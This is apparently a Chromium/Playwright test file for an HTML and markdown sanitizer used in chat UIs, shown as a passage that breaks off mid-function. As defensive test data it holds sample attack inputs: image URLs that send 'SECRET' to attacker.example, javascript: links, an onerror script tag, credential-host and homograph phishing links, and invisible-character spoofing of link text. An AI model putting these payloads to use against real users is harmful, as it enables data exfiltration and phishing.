// A real browser: Debian's Chromium driven by playwright-core loads a page served on
// 127.0.0.1 that imports the built package, renders the whole hostile corpus, inserts each
// result with innerHTML as a chat UI would, and asserts that no request is made beyond the
// page's own files, no script runs and nothing navigates, while benign content renders.

import http from 'node:http';
import { readFileSync, existsSync } from 'node:fs';
import { extname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { launchChromium } from './chromium.mjs';
import { corpus, peers, answerOfSize, nativeCli, lostText, streamStates } from './corpus.js';
import { hosts, nativeVerdicts } from './idna.js';

const pkg = new URL('../', import.meta.url);
const types = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.json': 'application/json' };
const ALLOWED = new Set(['/test/page.html', '/test/confirm.html', '/dist/safemark.js', '/dist/wasm/safemark_wasm.js', '/dist/wasm/safemark_wasm_bg.wasm', '/dist/lite.js', '/dist/wasm-lite/safemark_wasm.js', '/dist/wasm-lite/safemark_wasm_bg.wasm', '/dist/lite-nowasm.js', '/dist/nowasm/safemark_wasm.js', '/dist/nowasm/safemark_wasm_bg.js']);

const server = http.createServer((req, res) => {
  const path = new URL(req.url, 'http://x').pathname;
  const file = fileURLToPath(new URL('.' + path, pkg));
  if (!ALLOWED.has(path) || !existsSync(file)) {
    res.writeHead(404).end();
    return;
  }
  res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' });
  res.end(readFileSync(file));
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const origin = `http://127.0.0.1:${server.address().port}`;

const browser = await launchChromium();
let failures = 0;
const fail = (msg) => { failures++; console.log(`not ok - ${msg}`); };
try {
  const page = await browser.newPage();
  const stray = [];
  // The only requests allowed: the page's own files, and images under the allowlist policy's
  // `images.allow` (https://img.example.com/), which the policy explicitly lets load.
  let allowedImages = 0;
  page.on('request', (r) => {
    const u = new URL(r.url());
    if (u.origin === origin && ALLOWED.has(u.pathname)) return;
    if (u.origin === 'https://img.example.com' && r.resourceType() === 'image') {
      allowedImages++;
      return;
    }
    stray.push(r.url());
  });
  let dialogs = 0;
  page.on('dialog', (d) => { dialogs++; d.dismiss().catch(() => {}); });
  let popups = 0;
  page.on('popup', () => popups++);
  const navigations = [];
  page.on('framenavigated', (f) => navigations.push(f.url()));

  page.on('pageerror', (e) => console.log(`# page error: ${e.message}`));
  await page.goto(`${origin}/test/page.html`);
  await page.waitForFunction(() => window.__ready === true);

  const documents = [
    ...corpus.cases.map((c) => ({ input: c.input, markdown: c.mode === 'markdown', benign: c.name.startsWith('benign') })),
    ...peers.flatMap((v) => [{ input: v.input, markdown: true }, { input: v.input, markdown: false }]),
  ];
  const result = await page.evaluate(({ documents, policies }) => {
    const out = document.getElementById('out');
    let rendered = 0;
    let renderedLite = 0;
    let renderedNoWasm = 0;
    let benignElements = 0;
    const differ = [];
    // The three entries, full, lite and lite without WebAssembly, into the same page under the
    // same tripwires.
    for (const [entry, policy] of Object.values(policies).flatMap((p) => [[window.safemark, p], [window.safemarkLite, p], [window.safemarkNoWasm, p]])) {
      const s = new entry.Sanitizer(policy);
      for (const d of documents) {
        if (entry === window.safemarkLite) renderedLite++;
        if (entry === window.safemarkNoWasm) renderedNoWasm++;
        const html = d.markdown ? s.renderMarkdown(d.input) : s.sanitizeHtml(d.input);
        const box = document.createElement('div');
        box.innerHTML = html;
        // Read back as written: Chromium builds the tree the sanitizer decided on (no mutation).
        if (box.innerHTML !== html) differ.push({ input: d.input.slice(0, 300), markdown: d.markdown, html, browser: box.innerHTML });
        out.append(box);
        rendered++;
        if (d.benign) benignElements += box.querySelectorAll('h1,h2,em,strong,li,table,td,code,pre,blockquote,details,sup,a,img,input').length;
      }
    }
    // Elements that load without a request event (prefetch hints, favicons) or run on load.
    const loaders = out.querySelectorAll('link,meta,base,script,iframe,object,embed,style,svg,math,form,video,audio,source,[srcset],[background],[poster],[ping],[style]').length;
    const handlers = [...out.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length;
    // Negative control: markup Chromium does not read back as written is caught by the same check.
    const control = document.createElement('div');
    control.innerHTML = '<p><div>x</div></p>';
    const controlCaught = control.innerHTML !== '<p><div>x</div></p>';
    return { rendered, renderedLite, renderedNoWasm, benignElements, loaders, handlers, differ, controlCaught };
  }, { documents, policies: corpus.policies });
  console.log(`# read back by Chromium as written: ${result.rendered - result.differ.length} of ${result.rendered} outputs`);
  if (result.differ.length) fail(`outputs Chromium reads into another tree: ${JSON.stringify(result.differ.slice(0, 3))}`);
  if (!result.controlCaught) fail('negative control: misnested markup not caught by the read-back check');

  // Let images fail, handlers fire and timers run, if anything managed to get in.
  await page.waitForTimeout(1500);
  const tripped = await page.evaluate(() => window.__tripped);

  // Click every link that is clickable: only the trusted host may be the target, never a script.
  const clickable = await page.$$eval('#out a[href]', (as) => as.map((a) => a.href));
  const untrustedClicks = clickable.filter((h) => !h.startsWith(origin) && !/^https:\/\/docs\.example\.com\//.test(h) && !h.startsWith('mailto:'));

  // Negative control: unsanitized markup in the same page must trip the request detector.
  const before = stray.length;
  await page.evaluate(() => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="https://attacker.example/negative-control.png">';
    document.body.append(box);
  });
  await page.waitForTimeout(500);
  const controlSeen = stray.slice(before).some((u) => u.includes('negative-control'));
  stray.length = before;

  // Timing for a 20 KB answer (reported, not asserted).
  const ms = await page.evaluate((answer) => {
    const s = new window.safemark.Sanitizer();
    for (let i = 0; i < 20; i++) s.renderMarkdown(answer);
    const t0 = performance.now();
    for (let i = 0; i < 100; i++) s.renderMarkdown(answer);
    return (performance.now() - t0) / 100;
  }, answerOfSize(20 * 1024));

  // Streaming (issue 6): an answer streamed into the page through renderStream, one character
  // per animation frame around its URLs, so the tail is shown at every partial state. Every
  // request to the allowed image host must be for the complete URL, every <img src> and
  // <a href> that ever enters the page must be complete, and the final DOM must equal a batch
  // render of the whole answer.
  const FULL_IMG = 'https://img.example.com/chart.png?d=SECRET-0123456789';
  const FULL_LINK = 'https://docs.example.com/guide?step=2&ref=chat';
  const streamedAnswer = [
    '# Report\n\nHere is **the chart** you asked for:\n\n',
    `![revenue chart](${FULL_IMG}) and a [guide](${FULL_LINK}).\n\n`,
    '- one *item*\n- two `code`\n\n',
    '![blocked](https://attacker.example/p.png?d=SECRET) done.\n',
  ].join('');
  const imageRequests = [];
  page.on('request', (r) => { if (r.url().startsWith('https://img.example.com/')) imageRequests.push(r.url()); });
  const beforeStream = stray.length;
  const streamed = await page.evaluate(async ({ answer, policy, urls }) => {
    const root = document.getElementById('stream');
    const seen = { src: new Set(), href: new Set(), tails: 0 };
    const note = (el) => {
      for (const e of [el, ...el.querySelectorAll('img,a')]) {
        if (e.getAttribute?.('src') != null) seen.src.add(e.getAttribute('src'));
        if (e.tagName === 'A' && e.getAttribute('href') != null) seen.href.add(e.getAttribute('href'));
      }
    };
    const observer = new MutationObserver((records) => {
      for (const r of records) {
        if (r.target.hasAttribute?.('data-safemark-tail')) seen.tails++;
        for (const n of r.addedNodes) if (n.nodeType === 1) note(n);
        if (r.type === 'attributes') note(r.target);
      }
    });
    observer.observe(root, { childList: true, subtree: true, attributes: true, attributeFilter: ['src', 'href'] });
    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
    // Chunks: one character at a time inside each URL (a frame after each), larger elsewhere.
    async function* chunks() {
      let i = 0;
      while (i < answer.length) {
        const inUrl = urls.some((u) => { const at = answer.indexOf(u); return i >= at - 2 && i < at + u.length + 1; });
        const size = inUrl ? 1 : 7;
        yield answer.slice(i, i + size);
        i += size;
        await frame();
      }
    }
    const html = await window.safemark.renderStream(chunks(), root, policy);
    await frame();
    observer.disconnect();
    const batch = new window.safemark.Sanitizer(policy).renderMarkdown(answer);
    const tmp = document.createElement('div');
    tmp.innerHTML = batch;
    return {
      html, batch, domEqual: root.innerHTML === tmp.innerHTML,
      srcs: [...seen.src], hrefs: [...seen.href], tails: seen.tails,
      finalImages: [...root.querySelectorAll('img')].map((i) => i.src),
    };
  }, { answer: streamedAnswer, policy: corpus.policies.allowlist, urls: [FULL_IMG, FULL_LINK] });
  await page.waitForTimeout(500);
  const partialImageRequests = imageRequests.filter((u) => u !== FULL_IMG);
  const partialSrcs = streamed.srcs.filter((u) => u !== FULL_IMG);
  const partialHrefs = streamed.hrefs.filter((u) => u !== FULL_LINK);
  const streamStray = stray.slice(beforeStream);
  console.log(`# streaming: ${streamedAnswer.length} chars, tail re-rendered ${streamed.tails} times; image requests ${imageRequests.length} (partial ${partialImageRequests.length}); src values seen ${streamed.srcs.length}, href values ${streamed.hrefs.length}`);
  if (streamed.html !== streamed.batch) fail('streamed HTML differs from the batch render');
  if (!streamed.domEqual) fail('streamed DOM differs from the batch render');
  if (streamed.tails < 50) fail(`the tail was shown only ${streamed.tails} times: partial states not exercised`);
  if (!imageRequests.includes(FULL_IMG)) fail('the allowed image was never requested (the check would be vacuous)');
  if (partialImageRequests.length) fail(`requests for partial image URLs: ${partialImageRequests.slice(0, 5)}`);
  if (partialSrcs.length || partialHrefs.length) fail(`partial URLs in the page: ${[...partialSrcs, ...partialHrefs].slice(0, 5)}`);
  if (streamStray.length) fail(`requests while streaming: ${streamStray.slice(0, 5)}`);
  if (JSON.stringify(streamed.finalImages) !== JSON.stringify([FULL_IMG])) fail(`final images ${streamed.finalImages}`);

  // Click-time confirmation (issue 7): untrusted links rendered under "untrusted": "confirm"
  // and guarded by guardLinks navigate nowhere until the reader confirms, then open exactly
  // the judged URL in a new tab without opener or referrer.
  const confirmPage = await browser.newPage();
  const landing = (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<p>landed</p>' });
  await confirmPage.context().route('https://evil.example/**', landing);
  await confirmPage.context().route('https://xn--exmple-4nf.com/**', landing);
  const confirmPopups = [];
  confirmPage.on('popup', (p) => confirmPopups.push(p));
  const confirmNavigations = [];
  confirmPage.on('framenavigated', (f) => confirmNavigations.push(f.url()));
  await confirmPage.goto(`${origin}/test/confirm.html`);
  await confirmPage.waitForFunction(() => window.__ready === true);
  const judged = await confirmPage.evaluate(() => {
    const s = new window.safemark.Sanitizer({ links: { untrusted: 'confirm' } });
    const out = document.getElementById('out');
    out.innerHTML = s.renderMarkdown('[prize](https://evil.example/claim?d=SECRET&x=1) and [bank](https://ex\u0430mple.com/login) and [script](javascript:alert(1))')
      + s.sanitizeHtml('<span data-safemark-href="javascript:alert(2)">forged</span>');
    window.__asked = [];
    window.__answer = false;
    window.__dispose = window.safemark.guardLinks(out, {
      confirm: (url, info) => { window.__asked.push({ url, host: info.host, text: info.text }); return window.__answer; },
    });
    const judged = [...out.querySelectorAll('[data-safemark-href]')].map((e) => e.getAttribute('data-safemark-href'));
    // Written into the DOM directly, past the sanitizer: guardLinks must refuse these itself.
    for (const [text, href] of [['direct', 'javascript:alert(3)'], ['creds', 'https://docs.example.com@evil.example/']]) {
      const span = document.createElement('span');
      span.setAttribute('data-safemark-href', href);
      span.textContent = text;
      out.append(span);
    }
    return judged;
  });
  const asked = () => confirmPage.evaluate(() => window.__asked);
  const span = (text) => confirmPage.locator('#out span', { hasText: text }).first();
  const want = ['https://evil.example/claim?d=SECRET&x=1', 'https://xn--exmple-4nf.com/login'];
  if (JSON.stringify(judged) !== JSON.stringify(want)) fail(`judged destinations ${JSON.stringify(judged)}`);
  // Declined: no popup, no navigation; the reader was shown the whole URL and its host. Script
  // and credential destinations (forged in raw HTML, or put into the DOM directly) never ask.
  await span('prize').click();
  await span('script').click();
  await span('forged').click();
  await span('direct').click();
  await span('creds').click();
  await confirmPage.waitForTimeout(500);
  let a = await asked();
  if (a.length !== 1 || a[0].url !== want[0] || a[0].host !== 'evil.example' || a[0].text !== 'prize') fail(`asked ${JSON.stringify(a)}`);
  if (confirmPopups.length) fail('a popup opened without confirmation');
  if (confirmNavigations.length !== 1) fail(`navigated without confirmation: ${confirmNavigations}`);
  // Keyboard: the spans are focusable links; Enter asks, with the punycode host.
  await span('bank').focus();
  await confirmPage.keyboard.press('Enter');
  a = await asked();
  const role = await span('bank').getAttribute('role');
  if (a.length !== 2 || a[1].host !== 'xn--exmple-4nf.com' || role !== 'link') fail(`keyboard: ${JSON.stringify(a[1])}, role ${role}`);
  // Confirmed: exactly the judged URL, in a new tab, without opener or referrer.
  await confirmPage.evaluate(() => { window.__answer = true; });
  const [popup] = await Promise.all([confirmPage.waitForEvent('popup', { timeout: 5000 }), span('prize').click()]);
  await popup.waitForLoadState('domcontentloaded').catch(() => {});
  const opened = popup.url();
  const popupState = await popup.evaluate(() => ({ opener: window.opener === null, referrer: document.referrer })).catch((e) => ({ error: String(e) }));
  if (opened !== want[0]) fail(`opened ${opened}, judged ${want[0]}`);
  if (popupState.opener !== true || popupState.referrer !== '') fail(`popup state ${JSON.stringify(popupState)}`);
  if (confirmNavigations.length !== 1) fail(`the page itself navigated: ${confirmNavigations}`);
  // Removed guard: clicks do nothing.
  await confirmPage.evaluate(() => window.__dispose());
  await span('prize').click();
  await confirmPage.waitForTimeout(300);
  if ((await asked()).length !== 3) fail('the guard still ran after removal');
  console.log(`# guardLinks: ${a.length + 1} confirmations asked, opened ${opened} with opener ${popupState.opener ? 'null' : 'set'} and referrer ${JSON.stringify(popupState.referrer)}`);

  // What a reader sees of deceptive links (issue 14), under a policy that makes every link
  // clickable, where the host label is the only defense. Each case's link text claims
  // docs.example.com in some form a person reads as that host (in a sentence, quoted, with
  // look-alike dots, slashes or colons, with an invisible character of any kind inside, with
  // the real destination spelled in hidden text, after a forged label) while the link goes to
  // docs.example.com.evil.example; or the destination is a homograph. Rendered into the page,
  // Chromium's innerText (the text as laid out: hidden <rp> and closed <details> content
  // excluded) must show the real host, in xn-- form for an internationalized one, for every
  // clickable link.
  const deceptiveCases = (() => {
    const real = 'https://docs.example.com.evil.example/login';
    const cases = [];
    const esc = (t) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    const md = (t) => t.replace(/[\\[\]<`*_]/g, (c) => '\\' + c);
    const claims = [];
    const shapes = ['docs.example.com', 'https://docs.example.com/login', 'Sign in at https://docs.example.com/login to continue', 'mail me@docs.example.com', 'docs.example.com:443/login'];
    const wrappers = [['"', '"'], ["'", "'"], ['(', ')'], ['[', ']'], ['<', '>'], ['{', '}'], ['\u201C', '\u201D'], ['\u2018', '\u2019'], ['\u00AB', '\u00BB'], ['\u300C', '\u300D'], ['\uFF08', '\uFF09'], ['`', '`']];
    for (const shape of shapes) {
      claims.push(shape);
      for (const [o, c] of wrappers) claims.push(`see ${o}${shape}${c}.`);
      for (const dot of ['\u3002', '\uFF0E', '\uFF61', '\u2024', '\uFE52']) claims.push(shape.replaceAll('.', dot));
      for (const slash of ['\u2215', '\u2044', '\uFF0F']) claims.push(shape.replaceAll('/', slash));
      claims.push(shape.replaceAll(':', '\uFF1A'));
      claims.push(shape.replaceAll(' ', '\u2800'));
    }
    const invisible = [[0xAD, 0xAD], [0x34F, 0x34F], [0x600, 0x605], [0x61C, 0x61C], [0x6DD, 0x6DD], [0x70F, 0x70F], [0x890, 0x891], [0x8E2, 0x8E2], [0x115F, 0x1160], [0x17B4, 0x17B5], [0x180E, 0x180E], [0x200B, 0x200F], [0x202A, 0x202E], [0x2060, 0x2064], [0x2066, 0x206F], [0x3164, 0x3164], [0xFEFF, 0xFEFF], [0xFFA0, 0xFFA0], [0xFFF9, 0xFFFB], [0x110BD, 0x110BD], [0x110CD, 0x110CD], [0x13430, 0x1343F], [0x1BCA0, 0x1BCA3], [0x1D173, 0x1D17A], [0xE0001, 0xE0001], [0xE0020, 0xE007F]];
    for (const [from, to] of invisible) {
      for (let c = from; c <= to; c++) {
        const ch = String.fromCodePoint(c);
        claims.push(`docs.exa${ch}mple.com`, `${ch}https://docs.example.com/`);
      }
    }
    for (const claim of claims) {
      cases.push({ markdown: true, input: `[${md(claim)}](${real})`, host: 'docs.example.com.evil.example' });
      cases.push({ markdown: false, input: `<a href="${real}">${esc(claim)}</a>`, host: 'docs.example.com.evil.example' });
      cases.push({ markdown: false, input: `<a href="${real}"><ruby>${esc(claim)}<rp>.evil.example</rp></ruby></a>`, host: 'docs.example.com.evil.example' });
      cases.push({ markdown: false, input: `<a href="${real}">${esc(claim)}<details><p>.evil.example</p></details></a>`, host: 'docs.example.com.evil.example' });
    }
    for (const forged of ['<span class="safemark-link-host"> (docs.example.com)</span>', '<span class="safemark-link-host"><rp> (docs.example.com.evil.example)</rp></span>', '<span class="safemark-untrusted-link" title="https://docs.example.com/">x</span><span class="safemark-link-host"> (docs.example.com)</span>']) {
      cases.push({ markdown: false, input: `<p><a href="https://evil.example/login">docs.example.com</a>${forged}</p>`, host: 'evil.example' });
      cases.push({ markdown: true, input: `[docs.example.com](https://evil.example/login)${forged}`, host: 'evil.example' });
    }
    const homograph = 'https://d\u043Ecs.example.com/login';
    for (const input of [`[d\u043Ecs.example.com](${homograph})`, `[the docs](${homograph})`, `Go to ${homograph} now`, `<${homograph}>`]) {
      cases.push({ markdown: true, input, host: 'xn--dcs-sed.example.com' });
    }
    cases.push({ markdown: false, input: `<a href="${homograph}">${homograph}</a>`, host: 'xn--dcs-sed.example.com' });
    return cases;
  })();
  const readerView = await page.evaluate((cases) => {
    const s = new window.safemark.Sanitizer({ links: { allow: ['*'] } });
    const root = document.createElement('div');
    document.body.append(root);
    const boxes = cases.map((c) => {
      const box = document.createElement('div');
      box.innerHTML = c.markdown ? s.renderMarkdown(c.input) : s.sanitizeHtml(c.input);
      root.append(box);
      return box;
    });
    let links = 0;
    const check = (box, c, misses) => {
      const seen = box.innerText;
      const anchors = [...box.querySelectorAll('a[href]')];
      links += anchors.length;
      if (!anchors.length) misses.push({ input: c.input, why: 'no clickable link', seen });
      for (const a of anchors) {
        const host = new URL(a.href).host;
        if (host !== c.host) misses.push({ input: c.input, why: `href host ${host}` });
        // The real host, as a label right after the link, visible on the page.
        const label = a.nextElementSibling;
        const labelText = label && label.classList.contains('safemark-link-host') ? label.innerText : '';
        if (!labelText.includes(`(${host})`) || !seen.includes(`(${host})`)) misses.push({ input: c.input, why: 'real host not shown', seen });
      }
    };
    const misses = [];
    boxes.forEach((box, i) => check(box, cases[i], misses));
    // Negative controls, not sanitized: the real host only in hidden text, or a forged label
    // after a link; the same check must catch both.
    const controls = [];
    for (const html of ['<a href="https://docs.example.com.evil.example/"><ruby>docs.example.com<rp>.evil.example</rp></ruby></a>', '<a href="https://evil.example/">docs.example.com</a><span class="safemark-link-host"> (docs.example.com)</span>']) {
      const box = document.createElement('div');
      box.innerHTML = html;
      root.append(box);
      const found = [];
      check(box, { input: html, host: new URL(box.querySelector('a').href).host }, found);
      controls.push(found.length > 0);
    }
    root.remove();
    return { cases: cases.length, links, misses, controls };
  }, deceptiveCases);
  console.log(`# deceptive links: ${readerView.cases} hostile cases, ${readerView.links} clickable links read through innerText in Chromium; real host not shown for ${readerView.misses.length}`);
  if (readerView.cases < 1000) fail(`only ${readerView.cases} deceptive cases`);
  if (readerView.misses.length) fail(`real host not shown to the reader: ${JSON.stringify(readerView.misses.slice(0, 3))}`);
  if (!readerView.controls.every(Boolean)) fail(`negative controls not caught by the reader check: ${readerView.controls}`);

  // The npm layer's lifecycle in a real page (issue 15): a trap inside a call and stack
  // exhaustion around calls leave every API working; renderStream puts the rest where the tail
  // was, finishes without animation frames, refuses a second stream into one element and stops
  // on abort; guardLinks acts once per root and only on the span's own activation.
  const lifecycle = await page.evaluate(async () => {
    const sm = window.safemark;
    const problems = [];
    const paceFigures = {};
    const LINK = '[site](https://attacker.example/?q=SECRET)';
    const strict = new sm.Sanitizer({ links: { allow: ['https://docs.example.org/'] } });
    const works = (when) => {
      try {
        if (sm.renderMarkdown('# ok') !== '<h1>ok</h1>\n') problems.push(`${when}: renderMarkdown`);
        if (/<a /.test(strict.renderMarkdown(LINK))) problems.push(`${when}: policy lost`);
        const st = new sm.MarkdownStream();
        const { committed } = st.push('a\n\nb');
        if (committed + st.finish() !== '<p>a</p>\n<p>b</p>\n') problems.push(`${when}: stream`);
      } catch (e) {
        problems.push(`${when}: ${e.name}: ${e.message}`);
      }
    };
    // A genuine out-of-bounds trap in the middle of a call made through the package.
    const original = window.__glue.Sanitizer.prototype.renderMarkdown;
    window.__glue.Sanitizer.prototype.renderMarkdown = function (text) {
      const bogus = Object.create(window.__glue.Sanitizer.prototype);
      bogus.__wbg_ptr = 0xfffffff0;
      return original.call(bogus, text);
    };
    let traps = 0;
    for (let i = 0; i < 20; i++) {
      try { strict.renderMarkdown('x'); } catch (e) { if (e instanceof sm.WasmError && e.cause instanceof WebAssembly.RuntimeError) traps++; }
    }
    window.__glue.Sanitizer.prototype.renderMarkdown = original;
    works('after traps');
    // Stack exhaustion at every depth around calls.
    let unwound = 0;
    const DONE = {};
    const dive = () => {
      try { dive(); } catch (e) {
        if (e === DONE) throw e;
        try { strict.renderMarkdown('*x* [y](https://docs.example.org/)'); } catch (inner) { if (inner instanceof sm.WasmError) unwound++; throw e; }
        throw DONE;
      }
    };
    for (let round = 0; round < 400 && unwound < 300; round++) { try { dive(); } catch (e) { if (e !== DONE && !(e instanceof RangeError) && !(e instanceof sm.WasmError)) throw e; } }
    works('after stack exhaustion');

    // renderStream: no animation frames at all, an app node appended mid-stream.
    const box = document.createElement('div');
    document.body.append(box);
    const raf = window.requestAnimationFrame;
    window.requestAnimationFrame = () => 0;
    async function* chunks() {
      yield '# Title\n\npara one\n\n';
      await new Promise((r) => setTimeout(r, 20));
      const app = document.createElement('p');
      app.id = 'app-node';
      box.append(app);
      yield 'para two\n\nlast';
    }
    let second = '';
    const running = sm.renderStream(chunks(), box);
    try { await sm.renderStream(['x'], box); } catch (e) { second = e.name; }
    const finished = await Promise.race([running, new Promise((r) => setTimeout(() => r('TIMEOUT'), 3000))]);
    window.requestAnimationFrame = raf;
    if (finished === 'TIMEOUT') problems.push('renderStream did not finish without animation frames');
    if (second !== 'StateError') problems.push(`second stream into one element: ${second || 'accepted'}`);
    const order = [...box.children].map((c) => c.id || c.tagName.toLowerCase() + ':' + c.textContent);
    if (order[order.length - 1] !== 'app-node') problems.push(`the final block is not where the tail was: ${order.join(' | ')}`);
    if (box.querySelector('[data-safemark-tail]')) problems.push('the tail element stayed');
    // Abort mid-stream.
    const controller = new AbortController();
    const stopped = document.createElement('div');
    document.body.append(stopped);
    async function* forever() { for (;;) { yield 'more text\n\n'; await new Promise((r) => setTimeout(r, 5)); } }
    const aborting = sm.renderStream(forever(), stopped, undefined, { signal: controller.signal });
    setTimeout(() => controller.abort(new DOMException('stop', 'AbortError')), 50);
    let abortName = '';
    try { await aborting; } catch (e) { abortName = e.name; }
    if (abortName !== 'AbortError') problems.push(`abort: ${abortName || 'not rejected'}`);
    if (stopped.querySelector('[data-safemark-tail]')) problems.push('the tail element stayed after abort');

    // renderStream renders the tail at most once per animation frame (issue 18): a 20 KB
    // answer in 4-byte chunks arriving faster than frames, tail renders counted by the
    // mutations of the tail element, frames by a requestAnimationFrame loop.
    const paced = document.createElement('div');
    document.body.append(paced);
    const answer = ('## Step\n\nSome **bold** text with `code` and [a link](https://docs.example.org/a).\n\n- item one\n- item two\n\n```js\nlet x = 1;\n```\n\n').repeat(120);
    async function* fast() {
      for (let i = 0; i < answer.length; i += 4) {
        yield answer.slice(i, i + 4);
        if (i % 64 === 0) await new Promise((r) => setTimeout(r, 0));
      }
    }
    let frames = 0;
    let counting = true;
    const tick = () => { frames++; if (counting) window.requestAnimationFrame(tick); };
    window.requestAnimationFrame(tick);
    let tailRenders = 0;
    const watcher = new MutationObserver((records) => {
      for (const r of records) if (r.target.hasAttribute?.('data-safemark-tail')) tailRenders++;
    });
    watcher.observe(paced, { childList: true, subtree: true });
    const pacedHtml = await sm.renderStream(fast(), paced);
    await new Promise((r) => setTimeout(r, 0));
    counting = false;
    watcher.disconnect();
    paceFigures.chunks = Math.ceil(answer.length / 4);
    paceFigures.frames = frames;
    paceFigures.tailRenders = tailRenders;
    if (tailRenders > frames + 2) problems.push(`renderStream rendered the tail ${tailRenders} times in ${frames} frames`);
    if (pacedHtml !== new sm.Sanitizer().renderMarkdown(answer)) problems.push('renderStream of the paced answer differs from the batch render');

    // guardLinks: once per root; only the span's own activation.
    const root = document.createElement('div');
    document.body.append(root);
    const confirmSanitizer = new sm.Sanitizer({ links: { untrusted: 'confirm', allow: ['https://docs.example.org/'] } });
    root.innerHTML = confirmSanitizer.renderMarkdown('[prize](https://evil.example/p) and [docs](https://docs.example.org/a)')
      + confirmSanitizer.sanitizeHtml('<a href="https://evil.example/x"><h2>head</h2><details><summary>more</summary>hidden</details></a>')
      + confirmSanitizer.sanitizeHtml('<span class="safemark-untrusted-link" data-safemark-href="https://evil.example/collect"><a href="https://docs.example.org/b">allowed</a><details><summary>sum</summary>x</details></span>');
    const asked = [];
    const confirm = (url) => { asked.push(url); return false; };
    const a = sm.guardLinks(root, { confirm });
    const b = sm.guardLinks(root, { confirm });
    if (a !== b) problems.push('guardLinks twice gave two guards');
    // Whether the guard cancelled a click, seen after it, then cancelled so that nothing
    // navigates.
    let cancelledByGuard = null;
    const watch = (e) => { cancelledByGuard = e.defaultPrevented; e.preventDefault(); };
    document.addEventListener('click', watch);
    const click = (el) => { el.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); return !cancelledByGuard; };
    const spans = [...root.querySelectorAll('span.safemark-untrusted-link[data-safemark-href]')];
    const prize = spans.find((s) => s.textContent === 'prize');
    click(prize);
    const summary = root.querySelector('summary');
    const summaryClick = click(summary);
    const allowed = [...root.querySelectorAll('a[href]')].find((x) => x.textContent === 'allowed' || x.textContent === 'docs');
    const allowedClick = allowed ? click(allowed) : true;
    await new Promise((r) => setTimeout(r, 50));
    if (asked.length !== 1 || asked[0] !== 'https://evil.example/p') problems.push(`asked ${JSON.stringify(asked)}`);
    document.removeEventListener('click', watch);
    if (!summaryClick || !allowedClick) problems.push('a click inside a guarded span was cancelled');
    if (root.querySelector('[data-safemark-href="https://evil.example/collect"]')) problems.push('a forged confirm span survived sanitizing');
    a();

    // Custom schemes: clickable only when named; never script.
    const tel = new sm.Sanitizer({ links: { allow: ['tel:', 'vscode:'] } });
    const telBox = document.createElement('div');
    telBox.innerHTML = tel.renderMarkdown('[call](tel:+15551234) [code](vscode://file/a.ts) [sms](sms:+1) [x](javascript:alert(1))')
      + new sm.Sanitizer({ links: { allow: ['*'] } }).renderMarkdown('[call](tel:+15551234)');
    document.body.append(telBox);
    const hrefs = [...telBox.querySelectorAll('a[href]')].map((x) => x.getAttribute('href'));
    if (JSON.stringify(hrefs) !== JSON.stringify(['tel:+15551234', 'vscode://file/a.ts'])) problems.push(`custom schemes: ${JSON.stringify(hrefs)}`);
    let refused = '';
    try { new sm.Sanitizer({ links: { allow: ['javascript:'] } }); } catch (e) { refused = e.name + ' ' + e.key; }
    if (refused !== 'PolicyError links.allow[0]') problems.push(`javascript: as a policy entry: ${refused || 'accepted'}`);
    return { problems, traps, unwound, spans: spans.length, pace: paceFigures };
  });
  console.log(`# npm layer in Chromium: ${lifecycle.traps} traps and ${lifecycle.unwound} calls unwound by stack exhaustion survived; renderStream, abort and guardLinks checked (${lifecycle.spans} guarded spans); renderStream of ${lifecycle.pace.chunks} chunks rendered the tail ${lifecycle.pace.tailRenders} times in ${lifecycle.pace.frames} frames`);
  if (lifecycle.problems.length) fail(`npm layer lifecycle: ${lifecycle.problems.join('; ')}`);
  if (lifecycle.traps !== 20 || lifecycle.unwound < 300) fail(`npm layer: ${lifecycle.traps} traps, ${lifecycle.unwound} unwinds exercised`);

  // What a reader sees while an answer streams in (issue 18), read where a reader reads it:
  // generated answers (pkg-js/test/answers.json, from bench/src/bin/answers.rs) streamed a
  // character at a time through the npm MarkdownStream, committed + tail shown in the page and
  // read back with innerText. No state shows a character the input does not have, nor more of
  // a marker (`*_`~`) than the input so far has, and at least 99% of the states are a prefix of
  // the final text, markdown's markers aside.
  // From one state to the next no text disappears but the unfinished end of the input being
  // resolved (`lostText`, as tests/reading.rs reads it); that is also read on HTML blocks of
  // each kind before the blocks that end their text, with raw HTML shown as text.
  const answers = JSON.parse(readFileSync(new URL('./answers.json', import.meta.url), 'utf8'))
    .map((a) => a.split('\n').filter((l) => !l.includes('<') && !l.includes('![')).join('\n'));
  const htmlBlocks = ['<div>\n*a*', '<details>\n<summary>s</summary>', '<!-- c -->', '<pre>\nx\n</pre>', '<img src=x onerror=alert(1)>']
    .map((b) => `${b}\n\n*bar* and text\n\n- item\n\n${b}\n<b>x</b>\n\nlast words\n`);
  const reading = await page.evaluate(({ answers, htmlBlocks, lostSource, statesSource }) => {
    const lostText = (0, eval)(`(${lostSource})`);
    const streamStates = (0, eval)(`(${statesSource})`);
    const sm = window.safemark;
    const box = document.createElement('div');
    document.body.append(box);
    // Every state (and batch render) read back as written: Chromium builds the tree the
    // sanitizer decided on, tails and healing included.
    let readBack = 0;
    const notReadBack = [];
    const visible = (html) => {
      box.innerHTML = html;
      readBack++;
      if (box.innerHTML !== html && notReadBack.length < 3) notReadBack.push({ html, browser: box.innerHTML });
      return box.innerText.replace(/\s+/g, ' ').trim();
    };
    const aside = (t) => t.replace(/[\s*_~`\[\]()!#>|\\-]/g, '');
    const count = (t, d) => t.split(d).length - 1;
    let states = 0, prefixes = 0, escaped = 0;
    const garbage = [], flicker = [];
    const runs = [
      [{ links: { allow: ['*'] } }, answers, true],
      [{ links: { allow: ['*'] }, raw_html: 'escape' }, htmlBlocks, false],
    ];
    for (const [policy, docs, figure] of runs) for (const answer of docs) {
      const s = new sm.Sanitizer(policy);
      const chars = new Set([...answer]);
      const final = aside(visible(s.renderMarkdown(answer)));
      streamStates(new sm.MarkdownStream(policy), answer, visible, (seen, input, lost) => {
